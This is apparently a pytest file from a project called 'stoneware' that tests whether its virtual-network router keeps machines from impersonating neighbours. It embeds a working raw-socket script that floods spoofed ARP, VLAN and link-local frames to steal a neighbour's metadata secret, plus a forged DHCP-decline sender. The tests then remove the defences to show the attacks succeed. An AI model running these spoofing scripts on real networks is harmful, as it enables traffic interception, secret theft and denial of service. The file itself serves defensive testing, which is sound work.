"""N1: a machine sends frames as if it were a neighbour, to get what the metadata server has for that one."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from stoneware.files import write_json
from stoneware.platforms.local.network import namespace as network_namespace
from stoneware.platforms.local.network import router
from stoneware.platforms.local.network.layout import NAMESPACES
from stoneware.process import run
from tests.local import router_lab
from tests.local.router_lab import Fake, Lab, wait_until

make_lab, lab = router_lab.make_lab, router_lab.lab  # the fixtures
pytestmark = [
    pytest.mark.machine,
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root for network namespaces"),
]

CONFIG = "http://169.254.169.254/computeMetadata/v1/instance/attributes/stoneware-config"
SECRET = "PASSWORD=only-the-victims"

# Sends all that might make a bridge or a neighbour believe that the victim is here, over and over, and says
# what came that was not for us: frames to the victim's card, or its secret.
ATTACK = """
import select, socket, struct, sys
mine, victim = (bytes.fromhex(text.replace(":", "")) for text in sys.argv[1:3])
my_ip, its_ip, gateway = (socket.inet_aton(text) for text in sys.argv[3:6])
secret = sys.argv[6].encode()
everybody = b"\\xff" * 6

def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF

def packet(source, target, body=b"", protocol=17):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, protocol, 0, source, target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body

def udp(port, body=b"x" * 20):
    return struct.pack("!4H", 5000, port, 8 + len(body), 0) + body

def arp(kind, card, source, target):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, kind, card, source, bytes(6), target)

groups = [b"\\x01\\x80\\xc2\\x00\\x00" + bytes([last]) for last in range(16)]
kinds = (b"\\x88\\xcc", b"\\x88\\x09", b"\\x88\\x8e")
frames = [group + victim + kind + bytes(46) for group in groups for kind in kinds]
frames += [group + victim + b"\\x08\\0" + packet(its_ip, gateway, udp(53)) for group in groups]
frames += [group + victim + b"\\0\\x26\\x42\\x42\\x03" + bytes(35) for group in groups]  # spanning tree
for target in (everybody, b"\\x01\\0\\x5e\\0\\0\\xfb", victim, mine):
    ip = packet(its_ip, b"\\xff" * 4, udp(9))
    frames += [
        target + victim + b"\\x08\\0" + ip,
        target + victim + b"\\x08\\x06" + arp(1, victim, its_ip, its_ip),
        target + victim + b"\\x08\\x06" + arp(2, victim, its_ip, gateway),
        target + mine + b"\\x08\\x06" + arp(2, mine, its_ip, gateway),
        target + mine + b"\\x08\\x06" + arp(2, victim, my_ip, gateway),
        target + victim + b"\\x81\\0\\0\\1\\x08\\0" + ip,
        target + victim + b"\\x88\\xa8\\0\\1\\x81\\0\\0\\1\\x08\\0" + ip,
        target + victim + b"\\x86\\xdd" + b"\\x60" + bytes(60),
        target + victim + b"\\x80\\x35" + arp(3, victim, its_ip, its_ip),
        target + victim + b"\\x88\\xcc" + bytes(46),
    ]
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
link.bind(("host0", 0))
stolen = begun = 0
while not stolen and not (begun and select.select([sys.stdin], [], [], 0)[0]):
    for frame in frames:
        try:
            link.send(frame)
        except OSError:
            pass
    while select.select([link], [], [], 0.005)[0]:
        frame, where = link.recvfrom(4096)
        if where[2] != socket.PACKET_OUTGOING and (frame[:6] == victim or secret in frame):
            stolen += 1
    if not begun:
        begun = print("ready", flush=True) or 1
print(stolen)
"""


def as_it_is(lab: Lab) -> router.Router:
    """Return the router; what has been broken of it stays broken."""
    gate = router.open_router(lab.store)
    assert gate is not None
    return gate


def people(lab: Lab) -> tuple[Fake, Fake]:
    """Return a victim with a secret, and a thief on another network."""
    victim, thief = lab.machine("victim", networks=["a"]), lab.machine("thief", networks=["b"])
    for fake in (victim, thief):
        fake.address()
    write_json(
        lab.directory("victim") / "metadata.json", {"attributes": {"stoneware-config": f"{SECRET}\n" * 40}}
    )
    return victim, thief


def attack(lab: Lab, thief: Fake, victim: Fake) -> subprocess.Popen[str]:
    """Let the thief send all it can think of, until it gets something or its input ends."""
    leases = thief.lease, victim.lease
    words = [*(lease.mac for lease in leases), *(lease.ip for lease in leases), as_it_is(lab).gateway]
    enter = ["nsenter", f"--net=/run/netns/{thief.namespace}", sys.executable, "-c", ATTACK]
    pipe = subprocess.PIPE
    return subprocess.Popen([*enter, *words, SECRET], stdin=pipe, stdout=pipe, text=True)


def stolen_while_the_victim_asks(
    lab: Lab, thief: Fake, victim: Fake, *options: str, times: int = 25
) -> tuple[int, list[str]]:
    """Return how many of the victim's frames the thief got, and what the victim did."""
    answers: list[str] = []
    with attack(lab, thief, victim) as thieves:
        assert thieves.stdout is not None
        assert thieves.stdin is not None
        assert thieves.stdout.readline() == "ready\n"
        while thieves.poll() is None and len(answers) < times:
            answers.append(victim.ask(CONFIG, *options))
        thieves.stdin.close()
        return int(thieves.stdout.read()), answers


def places_of(lab: Lab, card: str) -> set[str]:
    """Return the ports at which the bridge believes a card to be."""
    shown = run(["bridge", "-j", "-n", as_it_is(lab).namespace, "fdb", "show", "br", "br0"]).stdout
    entries = [entry for entry in json.loads(shown) if entry["mac"] == card]
    return {entry["ifname"] for entry in entries if entry.get("master") == "br0"}


def inside(lab: Lab, *argv: str) -> str:
    return run(["nsenter", f"--net=/run/netns/{as_it_is(lab).namespace}", *argv]).stdout


def test_no_frame_makes_a_machine_its_neighbour(lab: Lab) -> None:
    victim, thief = people(lab)
    stolen, answers = stolen_while_the_victim_asks(lab, thief, victim)
    assert stolen == 0
    assert set(answers) == {f"{SECRET}\n" * 40}
    assert places_of(lab, victim.lease.mac) == {f"vb-{victim.id}"}
    assert places_of(lab, thief.lease.mac) == {f"vb-{thief.id}"}
    # Without the walls the thief gets the victim's answers: the attack is one.
    port = f"vb-{victim.id}"
    inside(lab, "nft", "delete table netdev stoneware")
    inside(lab, "bridge", "fdb", "del", victim.lease.mac, "dev", port, "master")
    inside(lab, "ip", "link", "set", "br0", "type", "bridge", "no_linklocal_learn", "0")
    for each in (port, f"vb-{thief.id}"):
        inside(lab, "ip", "link", "set", each, "type", "bridge_slave", "learning", "on", "flood", "on")
    inside(lab, "nft", "flush chain bridge stoneware postrouting")
    stolen, _ = stolen_while_the_victim_asks(lab, thief, victim, "--max-time", "2", times=1000)
    assert stolen > 0


def test_each_wall_alone_keeps_the_neighbours_identity(lab: Lab) -> None:
    """What a port does not let in, the bridge would not have believed, and the router not taken."""
    victim, thief = people(lab)
    inside(lab, "nft", "delete table netdev stoneware")
    stolen, answers = stolen_while_the_victim_asks(lab, thief, victim)
    assert (stolen, set(answers)) == (0, {f"{SECRET}\n" * 40})


def test_the_server_knows_the_port_a_request_came_in_by(lab: Lab) -> None:
    """Whoever got a neighbour's card and address, and its answers, is not taken for it all the same."""
    victim, thief = people(lab)
    thief_port = f"vb-{thief.id}"
    thief.sh("ip", "link", "set", "host0", "address", victim.lease.mac)
    thief.sh("ip", "addr", "flush", "dev", "host0")
    thief.lease = victim.lease
    thief.address()
    assert thief.unanswered(CONFIG)
    # One wall after the other falls: frames, then where answers go, then the router's look at addresses.
    inside(lab, "nft", "delete table netdev stoneware; flush chain bridge stoneware machine")
    inside(lab, "nft", "flush chain bridge stoneware postrouting")
    inside(lab, "bridge", "fdb", "replace", victim.lease.mac, "dev", thief_port, "master", "static")
    assert thief.unanswered(CONFIG)
    inside(lab, "nft", "flush chain ip stoneware guard")
    wait_until(lambda: "does not belong to the port" in thief.ask(CONFIG, "--max-time", "2"))
    secrets = "http://169.254.169.254/stoneware/v1/secrets/password"
    assert "does not belong to the port" in thief.ask(secrets)


def test_nobody_declines_a_neighbours_address(lab: Lab, tmp_path: Path) -> None:
    """A DHCP server that believed that would not give the neighbour its address for ten minutes."""
    victim, thief = lab.machine("victim"), lab.machine("thief")
    thief.address()
    gateway = lab.router.gateway
    script = (
        "import socket, sys\n"
        "card, ip, server = sys.argv[1].replace(':', ''), *map(socket.inet_aton, sys.argv[2:4])\n"
        "options = b'\\x63\\x82\\x53\\x63\\x35\\1\\4\\x32\\4' + ip + b'\\x36\\4' + server + b'\\xff'\n"
        "head = b'\\1\\1\\6\\0test' + bytes(20) + bytes.fromhex(card) + bytes(202)\n"
        "link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "link.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
        "link.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'host0')\n"
        "link.bind(('', 68))\n"
        "for server in ('255.255.255.255', sys.argv[3]):\n"
        "    for _ in range(3):\n"
        "        link.sendto(head + options, (server, 67))\n"
    )
    decline = [sys.executable, "-c", script, victim.lease.mac, victim.lease.ip, gateway]
    thief.sh(*decline)
    assert f"ip={victim.lease.ip} " in victim.address(dhcp=tmp_path)
    # Without the walls it does: the attack is one.
    inside(lab, "nft", "delete table netdev stoneware; flush chain bridge stoneware machine")
    thief.sh(*decline)
    victim.sh("ip", "addr", "flush", "dev", "host0")
    argv = ["busybox", "udhcpc", "-i", "host0", "-s", str(tmp_path / "lease.sh"), "-n", "-q", "-f", "-t", "2"]
    assert victim.sh(*argv, "-T", "1", check=False).returncode != 0


def test_a_port_that_has_no_rules_yet_lets_nothing_in(lab: Lab) -> None:
    """A machine's first process may send before its port is known to anything but the bridge's rules."""
    lab.machine("victim").address()
    gate = lab.router
    lease = gate.attach(lab.directory("new"), id="m0", name="new", hostname="new")
    gate.detach("m0", "new")
    fake = Fake("swt-new", "m0", lease)
    lab.fakes.append(fake)
    run(["ip", "netns", "add", fake.namespace])
    port = f"link add vb-m0 type veth peer name host0 address {lease.mac} netns {fake.namespace}\n"
    run(["ip", "-n", gate.namespace, "-batch", "-"], stdin=f"{port}link set vb-m0 master br0 up\n")
    fake.sh("ip", "link", "set", "host0", "up")
    fake.address()
    assert fake.unanswered()


def test_the_engines_ports_are_like_that(machine_home: Path) -> None:
    """A machine's own root sends the frames, from a machine that the engine has started."""
    from tests.local.engine_lab import bench

    perl = (
        'socket(my $link, 17, 3, 0x0300) or die; my $to = pack("S n", 17, 3);'
        ' open(my $f, "<", "/sys/class/net/host0/ifindex") or die; chomp(my $index = <$f>);'
        ' my $at = pack("S n i S C C a8", 17, 0x88cc, $index, 0, 0, 6, "");'
        ' my $card = pack("H*", shift); my $n = 0;'
        ' for my $last (0..15) { my $frame = pack("H*", sprintf("0180c20000%02x", $last)) . $card'
        ' . pack("H*", "88cc") . "\\0" x 46; $n++ if send($link, $frame, 0, $at); }'
        " exit($n == 16 ? 0 : 1);"
    )
    with bench(machine_home) as machines:
        machine = machines.boot()
        place = network_namespace.path(_router_of(machine.id))
        shown = run(["bridge", "-j", "-d", "-n", place.name, "link", "show"]).stdout
        (port,) = [entry for entry in json.loads(shown) if entry["ifname"] == f"vb-{machine.id}"]
        assert (port["learning"], port["flood"]) == (False, False)
        chain = run(
            ["nsenter", f"--net={place}", "nft", "list", "chain", "netdev", "stoneware", port["ifname"]]
        )
        assert "policy drop" in chain.stdout
        assert machines.sh(f"perl -e '{perl}' 4201c0000263") == 0
        known = run(["bridge", "-j", "-n", place.name, "fdb", "show", "br", "br0"]).stdout
        assert "42:01:c0:00:02:63" not in known


def _router_of(id: str) -> str:
    for path in sorted(NAMESPACES.iterdir()):
        found = run(["ip", "-n", path.name, "link", "show", f"vb-{id}"], check=False)
        if found.returncode == 0:
            return path.name
    raise AssertionError(f"no router has a port vb-{id}")
